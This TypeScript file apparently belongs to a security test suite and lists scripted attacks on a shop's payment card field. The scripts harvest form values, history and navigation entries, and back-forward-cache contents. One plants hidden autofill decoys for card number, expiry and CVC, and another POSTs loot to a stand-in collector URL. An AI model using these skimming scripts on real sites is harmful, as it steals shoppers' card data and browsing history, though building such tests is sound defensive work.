/** Addresses, forms, history, storage of the browser, and what of the past comes back. */
import type { Attack } from '../attack.ts';

export const ADDRESSES: readonly Attack[] = [
  {
    id: 'url-leak',
    what: 'reads resource timing names, navigation entries, the referrer and every address that passes',
    aim: 'reading',
    control: 'reads',
    noisy: true,
    script: `const look = (entries) => { for (const entry of entries) steal(entry.name); };
      new PerformanceObserver((list) => look(list.getEntries())).observe({ entryTypes: ['resource', 'navigation'] });
      atEnd(() => { look(performance.getEntries()); steal(location.href, document.referrer, document.URL); });`,
  },
  {
    id: 'hi-history',
    what: 'reads history.state, navigation.entries() and hash changes, and goes back and forth while the card stands there',
    aim: 'reading',
    control: 'reads',
    noisy: true,
    script: `for (const type of ['hashchange', 'popstate']) listen(window, type, (event) => steal(event.newURL, event.oldURL, event.state));
      const look = () => { steal(history.state, location.href); for (const entry of window.navigation?.entries() ?? []) { steal(entry.url); try { steal(entry.getState()); } catch { /* none */ } } };
      patch(History.prototype, 'pushState', (self, values) => steal(...values));
      patch(History.prototype, 'replaceState', (self, values) => steal(...values));
      moment(async () => {
        look();
        let isBack = false;
        listen(window, 'popstate', () => { isBack = true; });
        history.pushState({}, '', '#away');
        history.back();
        await until(() => isBack);
        look();
      });
      atEnd(look);`,
  },
  {
    id: 'form-value',
    what: 'reads the form: FormData, the formdata event, form.elements, the values of controls and their validity',
    aim: 'reading',
    control: 'reads',
    noisy: true,
    script: `const look = (form) => { steal([...new FormData(form)]); for (const element of form.elements) steal(element.value, element.name, element.validationMessage); };
      for (const type of ['formdata', 'submit', 'input', 'change', 'invalid']) listen(document, type, (event) => { steal(event.formData ? [...event.formData] : ''); const form = event.target?.form ?? event.target; if (form instanceof HTMLFormElement) look(form); }, true);
      moment(() => look(document.getElementById('pay')));
      atEnd(() => look(document.getElementById('pay')));`,
  },
  {
    id: 'sw-shop',
    what: 'has a service worker on the shop’s origin that reads every request of the page: address and body',
    aim: 'reading',
    control: 'reads',
    noisy: true,
    flow: 'worker',
    engines: ['chromium', 'firefox'],
    why: 'the driver’s WebKitGTK starts no service worker',
    // the worker itself tells the collector what it sees
    script: ``,
  },
  {
    id: 'bf-cache',
    what: 'waits until the shopper leaves and comes back, by the back button and the page cache, and looks what is still there',
    aim: 'reading',
    control: 'reads',
    flow: 'leave-and-return',
    engines: ['chromium'],
    why: 'Firefox and WebKitGTK keep no page in their caches that a tool drives: page-cache.test.ts has what can be seen in Firefox',
    script: `listen(window, 'pageshow', (event) => setTimeout(async () => {
        if (performance.getEntriesByType('navigation')[0].type !== 'back_forward' && !event.persisted) return;
        const card = document.getElementById('card');
        for (const input of document.querySelectorAll('input')) steal(input.value);
        crawl(card);
        // a page that was loaded anew instead loads its fields anew
        while (card.state === 'loading') await new Promise((done) => setTimeout(done, 20));
        const { state, empty, complete } = card;
        const code = await card.tokenize().then(() => 'a token', (error) => error.code);
        const control = document.getElementById('control-number').value;
        const body = JSON.stringify({ persisted: event.persisted, state, empty, complete, code, control, loot: window.__loot['bf-cache'] ?? '' });
        void fetch(FAKE.replace('/fake/', '/own/') + '?window=returned', { method: 'POST', mode: 'no-cors', body });
      }, 100));`,
  },
  {
    id: 'af-decoy',
    what: 'has invisible card fields that the browser fills along when the shopper’s saved card is filled in',
    aim: 'reading',
    control: 'reads',
    flow: 'autofill',
    engines: ['chromium'],
    why: 'only the DevTools protocol fills a card in a test',
    script: `whenHosts(() => {
        const decoys = document.createElement('form');
        decoys.innerHTML = '<input autocomplete="cc-number" id="decoy-number"><input autocomplete="cc-exp"><input autocomplete="cc-csc"><input autocomplete="cc-name">';
        for (const input of decoys.children) Object.assign(input.style, { position: 'absolute', opacity: 0, left: 0 });
        document.body.append(decoys);
        const look = () => { for (const { value } of decoys.children) steal(value); };
        decoys.addEventListener('input', look);
        atEnd(look);
      });`,
  },
];
